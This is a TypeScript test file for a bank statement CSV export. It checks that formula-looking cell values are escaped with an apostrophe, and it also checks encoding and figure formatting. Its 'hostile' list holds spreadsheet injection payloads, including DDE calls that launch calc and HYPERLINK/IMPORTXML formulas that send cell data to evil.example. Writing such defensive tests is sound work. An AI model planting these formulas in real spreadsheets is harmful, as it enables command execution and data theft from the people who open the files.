import { buffer } from 'node:stream/consumers';
import { money } from '@app/money';
import { expect, test } from 'vitest';
import { textsIn } from '#platform/texts';
import { readCsv } from '../../../test/csv.ts';
import { safeCell } from './safe-cell.ts';
import { statementCsv } from './statement-csv.ts';
import type { Movement, Narrowing } from './statement.ts';

const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+441234567890',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
];
const harmless = [
  'Rent',
  "O'Neill",
  'a=b',
  '1+1',
  'Maria - Nowak',
  '€ 5',
  '',
  'محمد',
  '王秀英',
  '5-3',
];

const movement = (words: string): Movement => ({
  entry_id: 1n,
  created_at: '2026-03-04T05:06:07.000001Z',
  kind: 'transfer',
  amount: -100_299n,
  fee: 299n,
  balance_after: 400_000n,
  description: words,
  shown: true,
  transfer: {
    id: '4f8a21c0-9d3a-4c57-8a59-1c2d3e4f5a6b',
    date: '2026-03-01',
    recipient: words,
    reference: words,
    status: 'completed',
    received: money(1_200n, 'JPY'),
  },
});

async function csvOf(movements: readonly Movement[], narrowing: Narrowing = {}): Promise<string> {
  const opening = 500_299n;
  const file = statementCsv({
    head: {
      full_name: 'Olena Kovalenko',
      email: 'olena@example.com',
      from: '2026-03-01',
      to: '2026-03-31',
      issued_at: '2026-04-01T00:00:00Z',
      opening,
      closing: opening + movements.reduce((all, { amount }) => all + amount, 0n),
      narrowing,
    },
    pages: (async function* () {
      yield movements;
    })(),
    texts: textsIn('en'),
    prefix: 'HB-',
    mode_line: 'Demonstration.',
  });
  return Buffer.from(await buffer(file)).toString('utf8');
}

test.each(hostile)('[2.statement.5] %j is text for every spreadsheet', async (words) => {
  expect(safeCell(words)).toBe(`'${words}`);
  const rows = readCsv((await csvOf([movement(words)], { search: words })).slice(1));
  const cells = rows.flatMap((row) => Object.values(row));
  const figures = /^-?\d+(?:\.\d{2})?$/;
  for (const cell of cells.filter((text) => !figures.test(text))) {
    expect(cell).not.toMatch(/^[\s]*[=+\-@＝＋－＠]/u);
  }
  // Nothing is lost: behind the mark stands what was written.
  expect(rows[1]?.['Recipient']).toBe(`'${words}`);
  expect(rows[1]?.['Reference']).toBe(`'${words}`);
  expect(rows[1]?.['Note']).toBe(`'${words}`);
});

test.each(harmless)('%j is left as it is', (words) => {
  expect(safeCell(words)).toBe(words);
});

test('[2.statement.6] UTF-8 with its mark, lines end as RFC 4180 says, a header of words, ISO days, exact figures', async () => {
  const file = await csvOf([movement('Łucja "Lu", Kowalska')]);
  expect(file.startsWith('\uFEFFDate,Time (GMT),Line,')).toBe(true);
  expect(file.split('\r\n').length).toBe(6);
  expect(file.endsWith('\r\n')).toBe(true);
  expect(readCsv(file.slice(1))[1]).toEqual({
    Date: '2026-03-04',
    'Time (GMT)': '05:06',
    Line: 'Movement',
    Description: 'Transfer to Łucja "Lu", Kowalska',
    'Transfer ID': 'HB-4f8a21c0',
    Recipient: 'Łucja "Lu", Kowalska',
    Reference: 'Łucja "Lu", Kowalska',
    Status: 'Completed',
    'Transaction date': '2026-03-01',
    'Recipient gets': '1200',
    Currency: 'JPY',
    'Money out (EUR)': '1000.00',
    'Money in (EUR)': '0.00',
    'Fee (EUR)': '2.99',
    'Balance (EUR)': '4000.00',
    Note: 'Łucja "Lu", Kowalska',
  });
});

test('figures below zero stay figures', async () => {
  const refund = { ...movement('Rent'), kind: 'fee_refund', amount: 299n, fee: -299n } as const;
  const rows = readCsv((await csvOf([{ ...refund, balance_after: 500_598n }])).slice(1));
  expect(rows[1]?.['Fee (EUR)']).toBe('-2.99');
});

test('[2.statement.7] the mode line stands in the file (ruling 2)', async () => {
  expect(readCsv((await csvOf([])).slice(1)).at(-1)?.['Note']).toBe('Demonstration.');
});
